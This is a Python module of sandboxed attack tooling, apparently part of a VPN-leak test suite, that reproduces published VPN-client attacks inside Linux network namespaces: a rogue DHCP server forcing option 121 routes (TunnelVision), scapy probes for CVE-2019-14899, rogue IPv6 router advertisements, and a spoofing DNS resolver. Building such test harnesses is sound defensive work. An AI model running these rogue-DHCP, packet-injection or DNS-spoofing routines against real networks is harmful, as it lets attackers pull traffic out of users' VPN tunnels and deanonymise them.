"""Attack tooling for the closed test world (netns_vault/sandbox/): the published attacks on
VPN clients, done for real inside the world and nowhere else.

What it offers (all of it runs in the world's namespaces; nothing touches the root namespace):

- `DhcpServer(world, routes=...)`: dnsmasq in DHCP mode on the isp side of the host's physical
  link (`up0`), leasing the host its own address and pushing DHCP option 121 (and 249) classless
  static routes: the TunnelVision server (CVE-2024-3661).
- `DhcpClient(world)`: busybox `udhcpc` on the world host's `eth0`, with a script that applies
  what the server sent, option 121 routes included (as RFC 3442 says: they replace the router
  option). Leaving the block removes every route and address the script added.
- `probe_address(world, target)`: CVE-2019-14899 probes from the neighbour on the physical link
  (the isp's `up0`), sent as raw frames to the host's MAC with scapy: ICMP echo, TCP SYN, SYN/ACK,
  ACK, RST, UDP, and ARP who-has, all aimed at `target` (a tunnel address). Returns a `ProbeReport`
  counting every reply per kind. A positive control: aim it at an address the host owns
  (`LAN_HOST_ADDR`, on eth1) and it counts replies.
- `send_router_advertisements(world, prefix)`: IPv6 RAs with a global SLAAC prefix from the
  neighbour; `host_ipv6(world)` turns IPv6 on for the host's eth0 (and the isp's up0) for a block.
- `flap_link(ns, iface)` / `flap_host_uplink(world)`: a physical link down/up, restoring the
  default route the way a network manager would.
- `Prober(ns)`: a process inside a namespace sending continuously (UDP datagrams and HTTP GETs to
  the web server) and recording when a GET succeeded, to prove traffic stops and resumes.
- `spoofed_resolver(world, name, addr)`: a DNS server on the gateway that answers `name` with
  `addr` (TunnelCrack ServerIP), and `vault_argv_with_resolver(...)`: a command line that runs a
  program in the host namespace with /etc/resolv.conf pointing at it (a private bind mount, so
  the machine's own resolv.conf is never touched).

The packet work runs as `python -m netns_vault.sandbox.attacks COMMAND JSON` under nsenter, so
scapy is imported only in that short-lived process, inside the right namespace.
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

from ..errors import SystemFailure, UsageError
from ..nsexec import netns_path
from .layout import (
    BUSYBOX,
    DNSMASQ,
    GATEWAY,
    HOST_ADDR,
    HOST_UPLINK_IFACE,
    ISP_UPLINK_IFACE,
    NSENTER,
    UPLINK_PREFIXLEN,
    WEB_ADDR,
    WEB_PORT,
)
from .namespaces import clean_env, ip, ns_popen, ns_run
from .processes import stop_process, tail, wait_until

if TYPE_CHECKING:
    from .world import World

PROBE_KINDS = ("icmp", "syn", "synack", "ack", "rst", "udp", "arp")
TUNNELVISION_ROUTES = (("0.0.0.0/1", GATEWAY), ("128.0.0.0/1", GATEWAY))
RA_PREFIX = "2001:db8:1::/64"
RA_ROUTER_ADDR = "2001:db8:1::1"  # put on the isp's up0 while IPv6 is on


def link_mac(ns: str, iface: str) -> str:
    """The MAC address of `iface` in `ns`."""
    info = json.loads(ip(ns, "-j", "link", "show", "dev", iface))
    return str(info[0]["address"])


def routes(ns: str, family: str = "-4") -> list[str]:
    """`ip route` of `ns`, one route a line."""
    return [line.strip() for line in ip(ns, family, "route").splitlines() if line.strip()]


def route_get(ns: str, addr: str) -> str:
    """`ip route get ADDR` in `ns` (the route the kernel would use)."""
    return ip(ns, "route", "get", addr).strip()


def _set_sysctls(ns: str, values: dict[str, str]) -> dict[str, str]:
    """Write sysctls in `ns`; returns their old values."""
    old = {}
    for key, value in values.items():
        res = ns_run(ns, ["sysctl", "-n", key])
        if res.returncode != 0:
            raise SystemFailure(f"sysctl {key} in {ns}: {res.stderr.strip()}")
        old[key] = res.stdout.strip()
        res = ns_run(ns, ["sysctl", "-qw", f"{key}={value}"])
        if res.returncode != 0:
            raise SystemFailure(f"sysctl {key}={value} in {ns}: {res.stderr.strip()}")
    return old


def _restore_sysctls(ns: str, old: dict[str, str]) -> None:
    for key, value in reversed(list(old.items())):
        ns_run(ns, ["sysctl", "-qw", f"{key}={value}"])


# --- TunnelVision: a DHCP server pushing option 121, a DHCP client applying it ---------------
class DhcpServer:
    """dnsmasq in DHCP mode on the isp's `up0`: leases the host `lease_addr` and pushes
    `routes` ((destination CIDR, gateway) pairs) as option 121 and its Microsoft twin 249."""

    def __init__(self, world: World, routes: Sequence[tuple[str, str]] = TUNNELVISION_ROUTES,
                 lease_addr: str = HOST_ADDR, router: str | None = GATEWAY):
        self.world = world
        self.routes = list(routes)
        self.lease_addr = lease_addr
        self.router = router
        self._proc: subprocess.Popen | None = None
        self._dir: str | None = None

    @property
    def log_path(self) -> str:
        assert self._dir is not None
        return os.path.join(self._dir, "dhcp.log")

    def __enter__(self) -> DhcpServer:
        self._dir = tempfile.mkdtemp(prefix="dhcpd-", dir=self.world.tmpdir)
        classless = ",".join(f"{dst},{gw}" for dst, gw in self.routes)
        argv = [
            DNSMASQ, "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
            "--port=0", f"--interface={ISP_UPLINK_IFACE}", "--bind-interfaces",
            f"--dhcp-range={self.lease_addr},{self.lease_addr},255.255.255.0,1h",
            "--dhcp-authoritative", "--no-ping", "--log-dhcp", f"--log-facility={self.log_path}",
            f"--dhcp-leasefile={os.path.join(self._dir, 'leases')}",
            f"--pid-file={os.path.join(self._dir, 'pid')}", "--user=root", "--group=root",
        ]
        if self.router:
            argv.append(f"--dhcp-option=3,{self.router}")
        if classless:
            # force: sent even to a client that did not ask (as an attacker would)
            argv += [f"--dhcp-option-force=121,{classless}", f"--dhcp-option-force=249,{classless}"]
        try:
            with open(os.path.join(self._dir, "stderr"), "wb") as errf:
                self._proc = ns_popen(self.world.isp_ns, argv, stdout=errf,
                                      stderr=subprocess.STDOUT)
            proc = self._proc
            wait_until(lambda: "DHCP, IP range" in tail(self.log_path, 4000), 5.0,
                        "DHCP server", alive=lambda: proc.poll() is None,
                        details=lambda: tail(os.path.join(self._dir or "", "stderr")))
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def __exit__(self, *exc: object) -> None:
        stop_process(self._proc, "DHCP server")
        self._proc = None
        if self._dir:
            shutil.rmtree(self._dir, ignore_errors=True)
            self._dir = None

    def acks(self) -> int:
        """DHCPACKs sent so far."""
        return tail(self.log_path, 1 << 20).count("DHCPACK(")


# The client's script: what a distribution's DHCP client script does with a lease, option 121
# included, and nothing else (no resolv.conf: the world's host shares the machine's /etc).
_UDHCPC_SCRIPT = r"""#!/bin/sh
# udhcpc script for the test world: apply address, then classless routes (RFC 3442) or router.
log="$NV_DHCP_LOG"
case "$1" in
  bound|renew)
    ip addr replace "$ip/$mask" dev "$interface" && echo "addr $ip/$mask" >> "$log"
    if [ -n "$staticroutes" ]; then
      set -- $staticroutes
      while [ $# -ge 2 ]; do
        ip route replace "$1" via "$2" dev "$interface" && echo "route $1 $2" >> "$log"
        shift 2
      done
    elif [ -n "$router" ]; then
      for r in $router; do
        ip route replace default via "$r" dev "$interface" && echo "route default $r" >> "$log"
        break
      done
    fi
    ;;
esac
exit 0
"""


class DhcpClient:
    """busybox udhcpc on the world host's `iface`, one lease then exit (`-q`), asking for
    option 121 (`-O staticroutes`). On exit the routes it added are removed, an address it added
    that the host did not have before is removed, and the default route is put back."""

    def __init__(self, world: World, iface: str = HOST_UPLINK_IFACE, timeout: float = 15.0):
        self.world = world
        self.iface = iface
        self.timeout = timeout
        self.applied: list[str] = []
        self.output = ""
        self._dir: str | None = None
        self._addrs_before: set[str] = set()

    def __enter__(self) -> DhcpClient:
        self._dir = tempfile.mkdtemp(prefix="dhclient-", dir=self.world.tmpdir)
        script = os.path.join(self._dir, "udhcpc.script")
        log_path = os.path.join(self._dir, "applied")
        with open(script, "w") as fh:
            fh.write(_UDHCPC_SCRIPT)
        os.chmod(script, 0o755)
        self._addrs_before = self._addrs()
        try:
            res = ns_run(self.world.host_ns,
                         [BUSYBOX, "udhcpc", "-i", self.iface, "-f", "-q", "-n", "-t", "5",
                          "-T", "1", "-s", script, "-O", "staticroutes", "-O", "msstaticroutes"],
                         env=clean_env(NV_DHCP_LOG=log_path), timeout=self.timeout)
            self.output = res.stdout + res.stderr
            if res.returncode != 0:
                raise SystemFailure(f"udhcpc on {self.iface}: exit {res.returncode}: "
                                    f"{self.output.strip()[-400:]}")
            with open(log_path) as fh:
                self.applied = [line.strip() for line in fh if line.strip()]
        except BaseException:
            self.__exit__(None, None, None)
            raise
        return self

    def _addrs(self) -> set[str]:
        info = json.loads(ip(self.world.host_ns, "-4", "-j", "addr", "show", "dev", self.iface))
        return {f"{a['local']}/{a['prefixlen']}" for i in info for a in i.get("addr_info", [])}

    @property
    def pushed_routes(self) -> list[tuple[str, str]]:
        return [(p[1], p[2]) for p in (line.split() for line in self.applied) if p[0] == "route"]

    def __exit__(self, *exc: object) -> None:
        host = self.world.host_ns
        for dst, gw in self.pushed_routes:
            if dst != "default":
                ip(host, "route", "del", dst, "via", gw, "dev", self.iface, check=False)
        for addr in self._addrs() - self._addrs_before:
            ip(host, "addr", "del", addr, "dev", self.iface, check=False)
        ip(host, "route", "replace", "default", "via", GATEWAY, "dev", self.iface, check=False)
        if self._dir:
            shutil.rmtree(self._dir, ignore_errors=True)
            self._dir = None


def _scapy() -> Any:
    """scapy.all, imported in the tool process only (its import reads the namespace's routes)."""
    import importlib

    return importlib.import_module("scapy.all")


# --- CVE-2019-14899: probes at the tunnel address from the physical link --------------------
@dataclass
class ProbeReport:
    """Replies from the target to each kind of probe (see PROBE_KINDS); `replies` lists them
    as text. `others`: ICMP errors about the probes from some other address (a forwarding host
    sends redirects for any address it does not own): not answers from the target."""

    target: str
    sent: dict[str, int]
    counts: dict[str, int]
    replies: list[str] = field(default_factory=list)
    others: list[str] = field(default_factory=list)

    @property
    def total(self) -> int:
        return sum(self.counts.values())

    def __str__(self) -> str:
        parts = ", ".join(f"{k}={v}" for k, v in self.counts.items())
        head = f"probes at {self.target}: {self.total} replies ({parts})"
        tail = [f"({len(self.others)} ICMP errors from other addresses)"] if self.others else []
        return "\n".join([head, *self.replies[:20], *tail])


def probe_address(world: World, target: str, *, count: int = 3, wait: float = 1.0,
                  kinds: Sequence[str] = PROBE_KINDS, port: int = 22,
                  attacker_ns: str | None = None, attacker_iface: str = ISP_UPLINK_IFACE,
                  attacker_addr: str = GATEWAY, victim_ns: str | None = None,
                  victim_iface: str = HOST_UPLINK_IFACE) -> ProbeReport:
    """CVE-2019-14899 probes: from the neighbour on the host's physical link, raw frames to the
    host's MAC with destination `target` (`count` of each kind), then count every reply.

    A reply is an ARP reply claiming `target`, or any IP packet from `target` (an ICMP error
    from it included). TCP kinds go to `port` (22: the usual open-for-SSH hole)."""
    bad = [k for k in kinds if k not in PROBE_KINDS]
    if bad:
        raise UsageError(f"unknown probe kinds: {bad}")
    spec = {
        "iface": attacker_iface, "src": attacker_addr, "target": target, "count": count,
        "wait": wait, "kinds": list(kinds), "port": port,
        "dst_mac": link_mac(victim_ns or world.host_ns, victim_iface),
    }
    out = _run_tool(attacker_ns or world.isp_ns, "probe", spec, timeout=60)
    return ProbeReport(target, out["sent"], out["counts"], out["replies"], out["others"])


def _probe_main(spec: dict[str, Any]) -> dict[str, Any]:
    sc = _scapy()
    iface, count = spec["iface"], spec["count"]
    my_mac = sc.get_if_hwaddr(iface)
    base_port = 40000 + os.getpid() % 10000
    # each kind gets its own source port (TCP/UDP) or ICMP id, so replies can be told apart
    tag = {k: base_port + 10 * i for i, k in enumerate(PROBE_KINDS)}
    frames = _probe_frames(sc, spec, my_mac, tag)
    by_port = {tag[k] + i: k for k in PROBE_KINDS for i in range(count)}

    sniffer = sc.AsyncSniffer(iface=iface, store=True)
    sniffer.start()
    time.sleep(0.3)  # let the socket bind before the first probe
    for frame in frames:
        sc.sendp(frame, iface=iface, verbose=False)
        time.sleep(0.01)
    time.sleep(spec["wait"])
    captured = sniffer.stop() or []
    counts = {k: 0 for k in spec["kinds"]}
    replies, others = [], []
    for pkt in captured:
        kind = _reply_kind(sc, pkt, spec["target"], my_mac, by_port)
        if kind == "from-other":
            others.append(pkt.summary())
        elif kind is not None:
            counts[kind] = counts.get(kind, 0) + 1
            replies.append(f"{kind}: {pkt.summary()}")
    sent = {k: count for k in spec["kinds"]}
    return {"sent": sent, "counts": counts, "replies": replies, "others": others}


def _probe_frames(sc: Any, spec: dict[str, Any], my_mac: str, tag: dict[str, int]) -> list[Any]:
    """`count` frames of each kind in spec["kinds"], from (my_mac, src) to (dst_mac, target)."""
    src, target, port = spec["src"], spec["target"], spec["port"]
    flags = {"syn": "S", "synack": "SA", "ack": "A", "rst": "R"}
    eth = sc.Ether(src=my_mac, dst=spec["dst_mac"])
    frames = []
    for kind in spec["kinds"]:
        for i in range(spec["count"]):
            if kind == "arp":
                frames.append(sc.Ether(src=my_mac, dst="ff:ff:ff:ff:ff:ff")
                              / sc.ARP(op=1, hwsrc=my_mac, psrc=src, pdst=target))
            elif kind == "icmp":
                frames.append(eth / sc.IP(src=src, dst=target) / sc.ICMP(id=tag[kind], seq=i))
            elif kind == "udp":
                frames.append(eth / sc.IP(src=src, dst=target)
                              / sc.UDP(sport=tag[kind] + i, dport=port) / b"probe")
            else:
                frames.append(eth / sc.IP(src=src, dst=target)
                              / sc.TCP(sport=tag[kind] + i, dport=port, flags=flags[kind],
                                       seq=1000 + i, ack=5000 if "A" in flags[kind] else 0))
    return frames


def _reply_kind(sc: Any, pkt: Any, target: str, my_mac: str,
                by_port: dict[int, str]) -> str | None:
    """Which probe kind `pkt` answers (None: not a reply from `target`; "from-other": an ICMP
    error about a probe, sent by some other address)."""
    if pkt.haslayer(sc.ARP):
        arp = pkt[sc.ARP]
        return "arp" if arp.op == 2 and arp.psrc == target else None
    if not pkt.haslayer(sc.IP) or pkt[sc.Ether].src == my_mac:
        return None
    sender = pkt[sc.IP].src
    if pkt.haslayer(sc.IPerror):  # an ICMP error quoting something we sent
        inner = pkt[sc.IPerror]
        if inner.dst != target:
            return None
        if sender != target:  # e.g. a redirect from a forwarding host: not the target
            return "from-other"
        if inner.proto == 1:
            return "icmp"
        sport = getattr(inner.payload, "sport", None)
        return by_port.get(sport, "other") if sport is not None else "other"
    if sender != target:
        return None
    if pkt.haslayer(sc.ICMP):
        return "icmp"
    if pkt.haslayer(sc.TCP) or pkt.haslayer(sc.UDP):
        return by_port.get(pkt.payload.payload.dport, "other")
    return "other"


# --- IPv6 router advertisements ----------------------------------------------------------------
@contextlib.contextmanager
def host_ipv6(world: World, accept_ra: str = "2") -> Iterator[None]:
    """IPv6 on for the host's eth0 and the isp's up0 for the block (the world has it off), with
    the host accepting RAs; everything set back, addresses gone, on exit."""
    host_keys = {f"net.ipv6.conf.{HOST_UPLINK_IFACE}.disable_ipv6": "0",
                 f"net.ipv6.conf.{HOST_UPLINK_IFACE}.accept_ra": accept_ra,
                 f"net.ipv6.conf.{HOST_UPLINK_IFACE}.autoconf": "1"}
    isp_keys = {f"net.ipv6.conf.{ISP_UPLINK_IFACE}.disable_ipv6": "0"}
    old_host = old_isp = None
    try:
        old_isp = _set_sysctls(world.isp_ns, isp_keys)
        old_host = _set_sysctls(world.host_ns, host_keys)
        ip(world.isp_ns, "-6", "addr", "add", f"{RA_ROUTER_ADDR}/64", "dev", ISP_UPLINK_IFACE,
            "nodad")
        yield
    finally:
        if old_host is not None:
            _restore_sysctls(world.host_ns, old_host)
        if old_isp is not None:
            _restore_sysctls(world.isp_ns, old_isp)


def host_global_ipv6(world: World, iface: str = HOST_UPLINK_IFACE) -> list[str]:
    """Global IPv6 addresses on the host's `iface` (what SLAAC made of an RA)."""
    info = json.loads(ip(world.host_ns, "-6", "-j", "addr", "show", "dev", iface, "scope",
                          "global"))
    return [a["local"] for i in info for a in i.get("addr_info", []) if "local" in a]


def host_ipv6_usable(world: World, iface: str = HOST_UPLINK_IFACE) -> bool:
    """A global address that finished duplicate address detection (not tentative), and a
    default route: until then the host cannot send IPv6 at all."""
    info = json.loads(ip(world.host_ns, "-6", "-j", "addr", "show", "dev", iface, "scope",
                          "global"))
    ready = [a for i in info for a in i.get("addr_info", [])
             if "local" in a and not a.get("tentative")]
    return bool(ready) and "default" in ip(world.host_ns, "-6", "route")


def send_router_advertisements(world: World, prefix: str = RA_PREFIX, count: int = 3,
                               interval: float = 0.2, iface: str = ISP_UPLINK_IFACE,
                               ns: str | None = None) -> int:
    """RAs with a global SLAAC prefix (A and L set) and a default route, sent to all nodes from
    the neighbour on the host's physical link. Returns how many were sent."""
    spec = {"iface": iface, "prefix": prefix, "count": count, "interval": interval}
    return int(_run_tool(ns or world.isp_ns, "ra", spec, timeout=30)["sent"])


def _ra_main(spec: dict[str, Any]) -> dict[str, Any]:
    sc = _scapy()
    ICMPv6ND_RA = sc.ICMPv6ND_RA
    ICMPv6NDOptPrefixInfo = sc.ICMPv6NDOptPrefixInfo
    ICMPv6NDOptSrcLLAddr = sc.ICMPv6NDOptSrcLLAddr
    IPv6 = sc.IPv6
    Ether = sc.Ether
    get_if_hwaddr = sc.get_if_hwaddr
    in6_mactoifaceid = sc.in6_mactoifaceid
    sendp = sc.sendp

    iface = spec["iface"]
    mac = get_if_hwaddr(iface)
    lladdr = "fe80::" + in6_mactoifaceid(mac)
    net, plen = spec["prefix"].split("/")
    frame = (Ether(src=mac, dst="33:33:00:00:00:01")
             / IPv6(src=lladdr, dst="ff02::1", hlim=255)
             / ICMPv6ND_RA(routerlifetime=1800)
             / ICMPv6NDOptSrcLLAddr(lladdr=mac)
             / ICMPv6NDOptPrefixInfo(prefix=net, prefixlen=int(plen), L=1, A=1,
                                     validlifetime=86400, preferredlifetime=14400))
    for _ in range(spec["count"]):
        sendp(frame, iface=iface, verbose=False)
        time.sleep(spec["interval"])
    return {"sent": spec["count"]}


# --- link flaps ----------------------------------------------------------------------------
def flap_link(ns: str, iface: str, down_for: float = 0.5,
              restore: Sequence[Sequence[str]] = ()) -> None:
    """`ip link set IFACE down`, wait, `up`, then re-run each `ip` command in `restore` (the
    kernel drops routes through a link that goes down; a network manager puts them back)."""
    ip(ns, "link", "set", "dev", iface, "down")
    try:
        time.sleep(down_for)
    finally:
        ip(ns, "link", "set", "dev", iface, "up")
        for args in restore:
            ip(ns, *args, check=False)


def flap_host_uplink(world: World, down_for: float = 0.5) -> None:
    """The host's physical link (eth0) down and up; the default route put back."""
    flap_link(world.host_ns, HOST_UPLINK_IFACE, down_for,
              restore=[("route", "replace", "default", "via", GATEWAY, "dev",
                        HOST_UPLINK_IFACE)])
    ip(world.host_ns, "addr", "replace", f"{HOST_ADDR}/{UPLINK_PREFIXLEN}", "dev",
        HOST_UPLINK_IFACE, check=False)


def flap_many(ns: str, iface: str, times: int) -> float:
    """`times` flaps (down, up) of `iface` in `ns`, back to back, through one `ip -batch`.
    Returns the seconds it took."""
    lines = "".join(f"link set dev {iface} down\nlink set dev {iface} up\n" for _ in range(times))
    t0 = time.monotonic()
    res = ns_run(ns, ["ip", "-batch", "-"], input=lines, timeout=120)
    if res.returncode != 0:
        raise SystemFailure(f"ip -batch in {ns}: {res.stderr.strip()[-300:]}")
    return time.monotonic() - t0


# --- a continuous prober ---------------------------------------------------------------------
class Prober:
    """A process inside `ns` that, until stopped, sends a UDP datagram to (addr, udp_port) every
    `interval` seconds and tries an HTTP GET of http://addr:port/ every `http_interval`.

    `stop()` returns its record: datagrams sent, send errors, and the times (epoch) of the GETs
    that got an answer, so a test can see traffic stop and resume."""

    def __init__(self, ns: str, addr: str = WEB_ADDR, port: int = WEB_PORT,
                 udp_port: int = 9, interval: float = 0.002, http_interval: float = 0.1):
        self.ns = ns
        self.spec = {"addr": addr, "port": port, "udp_port": udp_port, "interval": interval,
                     "http_interval": http_interval}
        self._proc: subprocess.Popen | None = None
        self.result: dict[str, Any] = {}

    def __enter__(self) -> Prober:
        self._proc = ns_popen(self.ns, _tool_argv("prober", self.spec), stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True)
        assert self._proc.stdout is not None
        line = self._proc.stdout.readline()  # "ready"
        if line.strip() != "ready":
            err = self._proc.communicate(timeout=5)[1]
            self._proc = None
            raise SystemFailure(f"prober did not start: {line} {err[-400:]}")
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()

    def stop(self) -> dict[str, Any]:
        proc, self._proc = self._proc, None
        if proc is None:
            return self.result
        with contextlib.suppress(ProcessLookupError):
            proc.send_signal(signal.SIGTERM)
        try:
            out, err = proc.communicate(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            out, err = proc.communicate()
        try:
            self.result = json.loads(out.strip().splitlines()[-1])
        except (ValueError, IndexError):
            raise SystemFailure(f"prober output: {out[-300:]} {err[-300:]}") from None
        return self.result

    def successes_after(self, t: float) -> int:
        return sum(1 for ts in self.result.get("http_ok", []) if ts > t)


def _prober_main(spec: dict[str, Any]) -> dict[str, Any]:
    import socket

    stop = False

    def on_term(_sig: int, _frame: Any) -> None:
        nonlocal stop
        stop = True

    signal.signal(signal.SIGTERM, on_term)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent = errors = 0
    http_ok: list[float] = []
    http_fail = 0
    next_http = 0.0
    request = f"GET /prober HTTP/1.0\r\nHost: {spec['addr']}\r\n\r\n".encode()
    print("ready", flush=True)
    while not stop:
        try:
            udp.sendto(b"prober", (spec["addr"], spec["udp_port"]))
            sent += 1
        except OSError:
            errors += 1
        now = time.monotonic()
        if now >= next_http:
            next_http = now + spec["http_interval"]
            try:
                with socket.create_connection((spec["addr"], spec["port"]), timeout=0.5) as s:
                    s.settimeout(0.5)
                    s.sendall(request)
                    if s.recv(64).startswith(b"HTTP/"):
                        http_ok.append(time.time())
                    else:
                        http_fail += 1
            except OSError:
                http_fail += 1
        time.sleep(spec["interval"])
    return {"udp_sent": sent, "udp_errors": errors, "http_ok": http_ok, "http_fail": http_fail}


# --- TunnelCrack ServerIP: a spoofing resolver on the gateway ---------------------------------
@contextlib.contextmanager
def spoofed_resolver(world: World, name: str, addr: str,
                     listen: str = GATEWAY) -> Iterator[str]:
    """A DNS server on the gateway (the hotspot's resolver) answering `name` with `addr`.
    Yields the path of a resolv.conf that points at it."""
    d = tempfile.mkdtemp(prefix="spoofdns-", dir=world.tmpdir)
    conf = os.path.join(d, "resolv.conf")
    with open(conf, "w") as fh:
        fh.write(f"nameserver {listen}\noptions timeout:1 attempts:2\n")
    argv = [DNSMASQ, "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
            "--no-poll", "--bind-interfaces", f"--listen-address={listen}", "--port=53",
            f"--address=/{name}/{addr}", "--log-queries",
            f"--log-facility={os.path.join(d, 'dns.log')}", "--user=root", "--group=root",
            f"--pid-file={os.path.join(d, 'pid')}"]
    proc = None
    try:
        with open(os.path.join(d, "stderr"), "wb") as errf:
            proc = ns_popen(world.isp_ns, argv, stdout=errf, stderr=subprocess.STDOUT)
        p = proc
        wait_until(lambda: "started" in tail(os.path.join(d, "dns.log"), 4000), 5.0,
                    "spoofing resolver", alive=lambda: p.poll() is None,
                    details=lambda: tail(os.path.join(d, "stderr")))
        time.sleep(0.1)
        yield conf
    finally:
        stop_process(proc, "spoofing resolver")
        shutil.rmtree(d, ignore_errors=True)


def with_resolv_conf(ns: str, resolv_conf: str, argv: Sequence[str]) -> list[str]:
    """A command line running `argv` in netns `ns` with /etc/resolv.conf replaced by
    `resolv_conf`, in a private mount namespace of its own: the bind mount stays there (its
    parent mount is made a slave first), while /run/netns keeps propagating, so namespaces the
    program binds are seen by everyone."""
    import shlex

    inner = ("set -e; m=$(findmnt -n -o TARGET -T /etc/resolv.conf); "
             'mount --make-slave "$m"; '
             f"mount --bind {shlex.quote(resolv_conf)} /etc/resolv.conf; "
             f"exec {NSENTER} --net={shlex.quote(netns_path(ns))} -- "
             + " ".join(shlex.quote(a) for a in argv))
    return ["unshare", "--mount", "--propagation", "unchanged", "--", "sh", "-c", inner]


# --- the tool process -------------------------------------------------------------------------
def _tool_argv(command: str, spec: dict[str, Any]) -> list[str]:
    return [sys.executable, "-m", "netns_vault.sandbox.attacks", command, json.dumps(spec)]


def _run_tool(ns: str, command: str, spec: dict[str, Any], timeout: float) -> dict[str, Any]:
    res = ns_run(ns, _tool_argv(command, spec), timeout=timeout)
    if res.returncode != 0:
        raise SystemFailure(f"{command} in {ns}: exit {res.returncode}: {res.stderr[-600:]}")
    return json.loads(res.stdout.strip().splitlines()[-1])


_COMMANDS = {"probe": _probe_main, "ra": _ra_main, "prober": _prober_main}


def main(argv: Sequence[str]) -> int:
    if len(argv) != 2 or argv[0] not in _COMMANDS:
        print(f"usage: python -m netns_vault.sandbox.attacks {{{','.join(_COMMANDS)}}} JSON",
              file=sys.stderr)
        return 2
    result = _COMMANDS[argv[0]](json.loads(argv[1]))
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
